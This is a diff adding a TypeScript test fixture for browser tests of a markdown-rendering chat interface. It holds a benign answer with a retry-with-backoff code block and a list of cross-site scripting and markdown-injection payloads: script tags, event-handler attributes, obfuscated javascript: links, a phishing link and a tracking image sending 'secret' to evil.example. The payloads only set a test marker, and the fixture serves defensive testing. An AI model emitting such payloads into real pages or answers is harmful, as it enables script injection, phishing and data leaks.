@@ -1,0 +1,76 @@
+/** Answers in markdown for the browser tests: what a model writes, and what an attacker would try to make it write. */
+
+const fence = "```";
+
+/** The exact code of the answer's `ts` block (what "Copy code" must copy). */
+export const markdownCode = [
+  "export async function retry<T>(run: () => Promise<T>, attempts = 3): Promise<T> {",
+  "  for (let attempt = 0; ; attempt++) {",
+  "    try {",
+  "      return await run();",
+  "    } catch (error) {",
+  "      if (attempt + 1 >= attempts) throw error; // give up",
+  '      await new Promise((resolve) => setTimeout(resolve, 2 ** attempt * 100)); // "backoff"',
+  "    }",
+  "  }",
+  "}",
+].join("\n");
+
+export const markdownAnswer = [
+  "## Retry with backoff",
+  "",
+  "Use **exponential backoff** so a struggling server can recover:",
+  "",
+  "1. Try the request.",
+  "2. On a `429`, wait and try again.",
+  "   - double the wait each time",
+  "   - stop after a few attempts",
+  "",
+  "| Attempt | Wait (ms) |",
+  "| --- | ---: |",
+  "| 1 | 100 |",
+  "| 2 | 200 |",
+  "",
+  `${fence}ts`,
+  markdownCode,
+  fence,
+  "",
+  "> Retries multiply the load on a server that is already struggling.",
+  "",
+  "That's all: 日本語 and emoji 🎉 too.",
+].join("\n");
+
+/**
+ * Injection attempts. Each payload would set `window.__xss` (or open a
+ * dialog, or load a URL on evil.example) if it ever ran.
+ */
+export const xssAnswer = [
+  "Here are a few tricks:",
+  "",
+  '<script>window.__xss = "script"; alert("script")</script>',
+  "",
+  "<img src=x onerror=\"window.__xss = 'img'; alert('img')\">",
+  "",
+  "<svg onload=\"window.__xss = 'svg'\"><circle r=\"1\"/></svg>",
+  "",
+  "<iframe src=\"javascript:parent.__xss = 'iframe'\"></iframe>",
+  "",
+  "[win a prize](javascript:window.__xss='link';alert('link'))",
+  "[or this](JaVaScRiPt:window.__xss='mixed')",
+  "[or this one](java&#x09;script:window.__xss='tab')",
+  "[or data](data:text/html,<script>alert('data')</script>)",
+  "",
+  "[https://bank.example/login](https://evil.example/phish)",
+  "",
+  "![a chart](https://evil.example/pixel.png?q=secret)",
+  "",
+  "| cell |",
+  "| --- |",
+  "| <img src=y onerror=\"window.__xss = 'table'\"> |",
+  "",
+  "- <details open ontoggle=\"window.__xss = 'list'\">x</details>",
+  "",
+  '<a href="javascript:window.__xss=\'raw link\'">raw link</a>',
+  "",
+  "The end.",
+].join("\n");
